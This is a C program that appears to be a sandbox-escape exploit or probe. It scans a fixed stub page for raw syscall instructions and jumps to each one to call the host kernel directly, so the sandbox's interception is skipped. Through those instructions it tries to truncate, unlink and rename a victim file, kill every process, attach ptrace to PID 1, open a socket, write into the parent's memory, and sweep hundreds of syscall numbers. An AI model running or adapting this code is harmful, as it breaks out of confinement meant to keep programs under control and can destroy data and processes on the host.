/* Jumps to the system call instructions of the stub's own page, from which the host's kernel is reached, with every number. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define STUB ((uint8_t *)0x7ff100000000UL)

static void jump(uint8_t *place, long number, long a, long b, long c, long d) {
    register long r10 asm("r10") = d;
    asm volatile("jmp *%[place]" : : [place] "r"(place), "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "memory", "rcx", "r11");
}

static int try(uint8_t *place, long number, long a, long b, long c, long d) {
    pid_t pid = fork();
    if (pid == 0) {
        alarm(1);
        jump(place, number, a, b, c, d);
        _exit(0);
    }
    int status = 0;
    for (int i = 0; i < 150; i++) {
        if (waitpid(pid, &status, WNOHANG) != 0) return status;
        usleep(2000);
    }
    kill(pid, SIGKILL);
    waitpid(pid, &status, 0);
    return status;
}

int main(int argc, char **argv) {
    const char *victim = argv[1];
    int found = 0;
    for (int i = 0; i < 4095; i++) {
        if (STUB[i] != 0x0f || STUB[i + 1] != 0x05) continue;
        found++;
        try(STUB + i, SYS_open, (long)victim, O_RDWR | O_CREAT | O_TRUNC, 0666, 0);
        try(STUB + i, SYS_openat, AT_FDCWD, (long)victim, O_RDWR | O_CREAT | O_TRUNC, 0666);
        try(STUB + i, SYS_unlink, (long)victim, 0, 0, 0);
        try(STUB + i, SYS_rename, (long)victim, (long)"/tmp/renamed", 0, 0);
        try(STUB + i, SYS_kill, -1, SIGKILL, 0, 0);
        try(STUB + i, SYS_ptrace, 16, 1, 0, 0);
        try(STUB + i, SYS_socket, 2, 1, 0, 0);
        try(STUB + i, SYS_process_vm_writev, getppid(), (long)&victim, 1, 0);
        if (found == 1)
            for (long number = 0; number < 470; number += 1 + (number > 60) * 6) try(STUB + i, number, 0, (long)victim, 3, 4);
    }
    printf("instructions %d\n", found);
    return 0;
}
